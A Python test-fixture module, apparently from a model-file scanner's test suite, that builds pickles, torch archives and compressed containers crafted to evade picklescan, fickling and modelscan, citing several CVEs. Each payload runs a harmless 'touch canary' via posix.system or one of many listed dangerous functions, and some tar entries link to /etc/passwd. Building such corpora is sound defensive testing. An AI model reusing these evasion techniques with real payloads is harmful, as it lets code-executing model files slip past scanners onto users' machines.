"""Build pickles and archives that evade published scanners (picklescan, fickling, modelscan), byte by byte.

Each would create the file `canary` in the working folder, or name a function that could. The ideas are those
of the advisories named below; no published file is copied.
"""

import bz2
import gzip
import io
import lzma
import pickle
import struct
import tarfile
import warnings
import zipfile
import zlib
from collections.abc import Iterator

from tests.backbones.hostile_files import (
    MAGIC,
    NO_STORAGES,
    archive,
    in_dictionary,
    name,
    storage,
    tensor,
    text,
    whole,
)

COMMAND = text("touch canary")
RUN = name("posix.system") + COMMAND + b"\x85R"  # REDUCE

# Functions that scanners took for harmless or did not know, and what an attacker gives them.
FUNCTIONS = (
    "pip.main",  # CVE-2025-1716
    "pip._internal.main",
    "pip._internal.cli.main.main",
    "ensurepip._run_pip",
    "operator.attrgetter",
    "operator.methodcaller",
    "functools.partial",
    "functools.reduce",
    "itertools.starmap",
    "builtins.eval",
    "builtins.exec",
    "builtins.compile",
    "builtins.__import__",
    "builtins.map",
    "builtins.apply",
    "numpy.testing._private.utils.runstring",
    "numpy.f2py.crackfortran.getlincoef",
    "numpy.f2py.crackfortran._eval_length",
    "numpy.load",
    "torch.load",
    "torch.serialization.load",
    "torch.storage._load_from_bytes",
    "torch.hub.load",
    "torch._inductor.codecache.compile_file",
    "torch._dynamo.guards.GuardBuilder.get",
    "torch.fx.experimental.symbolic_shapes.ShapeEnv.evaluate_guards_expression",
    "torch.jit.unsupported_tensor_ops.execWrapper",
    "torch.utils.bottleneck.__main__.run_cprofile",
    "torch.utils.bottleneck.__main__.run_autograd_prof",
    "torch.utils.collect_env.run",
    "torch.utils._config_module.ConfigModule.load_config",
    "torch.utils.data.datapipes.utils.decoder.basichandlers",
    "torch.distributed.rpc.internal._run_function",
    "cProfile.run",
    "cProfile.runctx",
    "profile.run",
    "profile.Profile.run",
    "pdb.run",
    "bdb.Bdb.run",
    "timeit.timeit",
    "trace.Trace.run",
    "doctest.debug_script",
    "code.InteractiveInterpreter.runcode",
    "runpy.run_path",
    "runpy._run_code",
    "importlib.import_module",
    "pkgutil.resolve_name",
    "pydoc.locate",
    "pydoc.pipepager",
    "_pyrepl.pager.pipe_pager",
    "lib2to3.pgen2.pgen.ParserGenerator.make_label",
    "lib2to3.pgen2.grammar.Grammar.loads",
    "idlelib.autocomplete.AutoComplete.get_entity",
    "idlelib.calltip.Calltip.fetch_tip",
    "idlelib.calltip.get_entity",
    "idlelib.debugobj.ObjectTreeItem.SetText",
    "idlelib.pyshell.ModifiedInterpreter.runcode",
    "idlelib.run.Executive.runcode",
    "asyncio.unix_events._UnixSubprocessTransport._start",
    "multiprocessing.util.spawnv_passfds",
    "subprocess.Popen",
    "subprocess.getoutput",
    "commands.getoutput",
    "os.popen",
    "nt.system",
    "posix.posix_spawn",
    "pty.spawn",
    "uuid._get_command_stdout",
    "webbrowser.open",
    "ctypes.CDLL",
    "types.CodeType",
    "types.FunctionType",
    "marshal.loads",
    "_pickle.loads",
    "pickle.Unpickler",
    "shelve.open",
    "copyreg._reconstructor",
    "copyreg.__newobj__",
    "shutil.rmtree",
    "io.open",
    "_io.FileIO",
    "pathlib.Path.write_text",
    "linecache.getline",
    "distutils.file_util.write_file",
    "logging.FileHandler",
    "logging.config.dictConfig",
    "socket.create_connection",
    "ssl.get_server_certificate",
    "http.client.HTTPSConnection",
    "urllib.request.urlopen",
    "smtplib.SMTP",
    "sys.addaudithook",
    "sys.settrace",
    "signal.signal",
    "site.main",
    "pandas.read_pickle",
    "pandas.eval",
    "joblib.load",
    "joblib.numpy_pickle.NumpyArrayWrapper",
    "dill._dill._create_function",
    "cloudpickle.cloudpickle._make_function",
    "keras.src.layers.core.lambda_layer.Lambda",
    "sklearn.utils._testing.raises",
)


def instructions() -> Iterator[tuple[str, bytes]]:
    """Yield whole pickles that call by every instruction that can; the payload is a value of a dictionary."""
    weight = text("w") + tensor((4,), (1,)) + b"s"
    popen = name("subprocess.Popen") + b"(" + text("touch") + text("canary") + b"l\x85"
    yield "REDUCE", in_dictionary(RUN)
    yield "STACK_GLOBAL", in_dictionary(text("posix") + text("system") + b"\x93" + COMMAND + b"\x85R")
    names = text("system") + b"q\x07N" + text("posix") + b"q\x08N"
    found = text("w") + b"h\x08h\x07\x93" + COMMAND + b"\x85R"
    yield "STACK_GLOBAL through the memo", whole(b"}(", names, found, b"u")
    path = text("os") + text("path.os.system") + b"\x93" + COMMAND + b"\x85R"
    yield "STACK_GLOBAL of a path", b"\x80\x04" + in_dictionary(path)[2:]
    yield "a path through torch", in_dictionary(b"ctorch\nserialization.os.system\n" + COMMAND + b"\x85R")
    yield "a path through an allowed class", in_dictionary(b"cargparse\n_os.system\n" + COMMAND + b"\x85R")
    yield "INST", in_dictionary(b"(" + COMMAND + b"iposix\nsystem\n")
    yield (
        "OBJ",
        in_dictionary(b"(" + name("subprocess.Popen") + b"(" + text("touch") + text("canary") + b"lo"),
    )
    yield "NEWOBJ", in_dictionary(popen + b"\x81")
    yield "NEWOBJ_EX", in_dictionary(popen + b"}\x92")
    yield "EXT1", in_dictionary(b"\x82\x01" + COMMAND + b"\x85R")
    yield "EXT2", in_dictionary(b"\x83\x01\x01" + COMMAND + b"\x85R")
    yield "EXT4", in_dictionary(b"\x84\x01\x01\x01\x01" + COMMAND + b"\x85R")
    namespace = name("argparse.Namespace") + b")\x81"
    hook = b"}" + text("__setstate__") + name("posix.system") + b"sb"
    yield "BUILD", in_dictionary(namespace + hook + COMMAND + b"b")
    yield "BUILD with slots", in_dictionary(namespace + b"N}" + text("__class__") + RUN + b"s\x86b")
    yield "PERSID", in_dictionary(b"Ptouch canary\n")
    yield "BINPERSID", in_dictionary(b"(" + RUN + b"tQ")
    yield (
        "a storage of a call",
        in_dictionary(tensor((4,), (1,), stored=storage().replace(b"X\x03\x00\x00\x00cpu", RUN))),
    )
    yield "hooks of a tensor", in_dictionary(tensor((4,), (1,))[:-2] + RUN + b"tR")
    yield (
        "getattr",
        in_dictionary(
            name("builtins.getattr") + name("argparse._os") + text("system") + b"\x86R" + COMMAND + b"\x85R"
        ),
    )
    yield (
        "getattr of an allowed class",
        in_dictionary(
            name("builtins.getattr")
            + name("argparse.Namespace")
            + text("__init__")
            + b"\x86R"
            + COMMAND
            + b"\x85R"
        ),
    )
    yield (
        "a call of a call",
        in_dictionary(name("functools.partial") + name("posix.system") + b"\x85R" + COMMAND + b"\x85R"),
    )
    yield "popped", whole(RUN + b"0}", weight)
    yield "popped with its mark", whole(b"(" + RUN + b"1}", weight)
    yield "duplicated", whole(RUN + b"20}", weight)
    yield "a key", whole(b"}" + RUN + b"Ns")
    yield (
        "a default factory",
        in_dictionary(name("collections.defaultdict") + name("posix.system") + b"\x85R"),
    )
    yield "an element of a set", in_dictionary(name("builtins.set") + b"](" + RUN + b"e\x85R")
    yield (
        "nested",
        in_dictionary(name("_pickle.loads") + b"C" + bytes([len(whole(RUN))]) + whole(RUN) + b"\x85R"),
    )
    yield "truncated after it ran", whole(b"}" + text("w") + RUN)[:-1]
    yield "invalid after it ran", whole(b"}" + text("w") + RUN + b"\xff")
    yield "cut within a text", b"\x80\x02" + RUN + b"X\xff\xff"
    yield "an unknown protocol", b"\x80\x09" + RUN + b"."
    yield "a second protocol", b"\x80\x02\x80\x05" + RUN + b"."
    yield "frames that lie", b"\x80\x04\x95" + struct.pack("<Q", 3) + RUN + b"."
    yield "behind another pickle", whole(b"}" + weight) + whole(RUN)
    yield "behind empty bytes", whole(b"}" + weight) + bytes(9) + whole(RUN)
    yield "behind a stop", whole(b"}.") + RUN + b"."
    yield "bytes that are no pickle behind one", whole(b"}" + text("a") + b"Ns") + b"x"


# pickle.loads creates the canary: the corpus is not harmless by a mistake of its builders.
RUNNABLE = (
    "REDUCE",
    "STACK_GLOBAL",
    "STACK_GLOBAL through the memo",
    "STACK_GLOBAL of a path",
    "INST",
    "OBJ",
    "BUILD",
    "getattr",
    "a call of a call",
    "popped with its mark",
    "a key",
    "nested",
    "truncated after it ran",
    "invalid after it ran",
    "cut within a text",
    "a second protocol",
)


def functions() -> Iterator[tuple[str, bytes]]:
    for full in FUNCTIONS:
        yield full, in_dictionary(name(full) + COMMAND + b"\x85R")


BENIGN = whole(b"}" + text("w") + tensor((4,), (1,)) + b"s")
STORED = {"data/0": bytes(16)}


def _patched(data: bytes, signature: bytes, offset: int, new: bytes) -> bytes:
    """Overwrite bytes of the first header with this signature."""
    at = data.index(signature) + offset
    return data[:at] + new + data[at + len(new) :]


def archives() -> Iterator[tuple[str, bytes]]:
    """Yield zip archives of torch.save whose headers or members mislead a scanner."""
    evil, good = archive(in_dictionary(RUN), STORED), archive(BENIGN, STORED)
    local, central = b"PK\x03\x04", b"PK\x01\x02"
    for what, data in {"evil": evil, "good": good}.items():
        # CVE-2025-1945: a flag that makes Python's zipfile refuse what torch reads.
        yield f"{what}, encrypted in the directory", _patched(data, central, 8, b"\x01\x00")
        yield f"{what}, encrypted in the header", _patched(data, local, 6, b"\x01\x00")
        yield (
            f"{what}, encrypted in both",
            _patched(_patched(data, central, 8, b"\x01\0"), local, 6, b"\x01\0"),
        )
        yield f"{what}, strongly encrypted", _patched(data, central, 8, b"\x41\x20")
        # CVE-2025-1944: another name in the header than in the directory.
        yield f"{what}, another name in the header", _patched(data, local, 38, b"code.py!")
        yield f"{what}, another method in the header", _patched(data, local, 8, b"\x08\x00")
        yield f"{what} with bytes after its end", data + whole(RUN)
        yield f"{what} with a comment", data[:-2] + struct.pack("<H", 30) + b"c" * 30
        yield f"{what} behind a pickle", whole(RUN) + data
        yield f"{what} behind an entry", local + bytes(26) + whole(RUN) + data
        yield f"{what} behind another archive", good + data
        for member in ("other.pkl", "code/model.py", "data.pkl.bak", "../data.pkl", ".data/x", "data/0/1"):
            yield f"{what} with the member {member}", archive(BENIGN, STORED | {member: whole(RUN)})
        yield f"{what} with a record that no tensor uses", archive(BENIGN, STORED | {"data/1": whole(RUN)})
        yield f"{what} with a program", archive(BENIGN, STORED | {"constants.pkl": whole(RUN)})
        yield f"{what} with attributes", archive(BENIGN, STORED | {"attributes.pkl": whole(RUN)})
    # CVE-2025-10156: a wrong checksum.
    yield "a wrong checksum", _patched(_patched(evil, local, 14, b"\xff" * 4), central, 16, b"\xff" * 4)
    for what, pickles in {
        "evil then good": (in_dictionary(RUN), BENIGN),
        "good then evil": (BENIGN, in_dictionary(RUN)),
    }.items():
        members = [("archive/data.pkl", data) for data in pickles]
        yield (
            f"twice, {what}",
            _zipped([*members, ("archive/version", b"3\n"), ("archive/data/0", bytes(16))]),
        )
        members = [(f"{folder}/data.pkl", data) for folder, data in zip("ab", pickles, strict=True)]
        yield f"two folders, {what}", _zipped([*members, ("a/version", b"3\n"), ("a/data/0", bytes(16))])
    yield (
        "an absolute member",
        _zipped([("/tmp/archive/data.pkl", in_dictionary(RUN)), ("/tmp/archive/version", b"3")]),
    )
    yield (
        "a member that climbs",
        _zipped([("../archive/data.pkl", in_dictionary(RUN)), ("../archive/version", b"3")]),
    )
    yield "members without a folder", _zipped([("data.pkl", in_dictionary(RUN)), ("version", b"3\n")])
    yield (
        "names in capitals",
        _zipped([("archive/DATA.PKL", in_dictionary(RUN)), ("archive/version", b"3\n")]),
    )
    yield "a name with a NUL", archive(BENIGN, STORED).replace(b"archive/version", b"archive/vers\0on")
    yield "an object array of numpy in an archive", _zipped([("weights.npy", _object_array())])
    yield (
        "a Keras model",
        _zipped([("config.json", b'{"class_name": "Lambda"}'), ("model.weights.h5", b"\x89HDF")]),
    )


def _zipped(members: list[tuple[str, bytes]]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as target, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # two entries of one name are meant
        for member, data in members:
            target.writestr(zipfile.ZipInfo(member), data)
    return out.getvalue()


def _object_array() -> bytes:
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(117) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + whole(RUN)


def _tarred(link: str = "") -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as target:
        entry = tarfile.TarInfo("archive/data.pkl")
        if link:
            entry.type, entry.linkname = tarfile.SYMTYPE, link
        entry.size = 0 if link else len(whole(RUN))
        target.addfile(entry, None if link else io.BytesIO(whole(RUN)))
    return out.getvalue()


def containers() -> Iterator[tuple[str, bytes]]:
    """Yield payloads in containers and under suffixes that scanners do not open (CVE-2025-1889)."""
    evil = in_dictionary(RUN)
    for suffix in ("safetensors", "bin", "pt", "ckpt", "txt", "json", "png", "pkl", "joblib", "h5", "npz"):
        yield f"a pickle named x.{suffix}", evil
        yield f"an archive named x.{suffix}", archive(evil, STORED)
    yield "text protocol", b"cposix\nsystem\n(S'touch canary'\ntR."
    yield "a mark first", b"(cposix\nsystem\nS'touch canary'\no."
    yield "7z", b"7z\xbc\xaf\x27\x1c\x00\x04" + evil
    yield "rar", b"Rar!\x1a\x07\x01\x00" + evil
    yield "gzip", gzip.compress(evil, mtime=0)
    yield "bzip2", bz2.compress(evil)
    yield "xz", lzma.compress(evil)
    yield "lzma", lzma.compress(evil, lzma.FORMAT_ALONE)
    yield "zlib of joblib", zlib.compress(evil)
    yield "an old joblib file", b"ZF0x1a" + b" " * 14 + zlib.compress(evil)
    yield "lz4", b"\x04\x22\x4d\x18" + evil
    yield "zstandard", b"\x28\xb5\x2f\xfd" + evil
    yield "tar", _tarred()
    yield "tar with a symbolic link", _tarred("/etc/passwd")
    yield "tar.gz with a symbolic link", gzip.compress(_tarred("../../etc/passwd"), mtime=0)
    yield "an object array of numpy", _object_array()
    yield "HDF5", b"\x89HDF\r\n\x1a\n" + evil
    yield "GGUF", b"GGUF\x03\x00\x00\x00" + evil
    yield "an archive behind a header of safetensors", struct.pack("<Q", 2) + b"{}" + archive(evil, STORED)


def legacy() -> Iterator[tuple[str, bytes]]:
    """Yield files of torch's old format with payloads in each of its five pickles, and after its tensors."""
    good = in_dictionary(b"N") + NO_STORAGES
    first, evil = pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2), whole(RUN)
    yield "as the version", first + evil + pickle.dumps({}, protocol=2) + good
    yield "as the system", first + pickle.dumps(1001, protocol=2) + evil + good
    yield "as the content", MAGIC + evil + NO_STORAGES
    yield "as the keys of the storages", MAGIC + in_dictionary(b"N") + evil
    yield "after the tensors", MAGIC + good + evil
    yield "a second file", MAGIC + good + MAGIC + evil + NO_STORAGES


def bypasses() -> dict[str, dict[str, bytes]]:
    """Return every file by family and name."""
    return {
        "instructions in a bare pickle": dict(instructions()),
        "instructions in a zip archive": {what: archive(data, STORED) for what, data in instructions()},
        "instructions in torch's old format": {
            what: MAGIC + data + NO_STORAGES for what, data in instructions()
        },
        "functions in a bare pickle": dict(functions()),
        "functions in a zip archive": {what: archive(data, STORED) for what, data in functions()},
        "misleading zip archives": dict(archives()),
        "containers": dict(containers()),
        "torch's old format": dict(legacy()),
    }
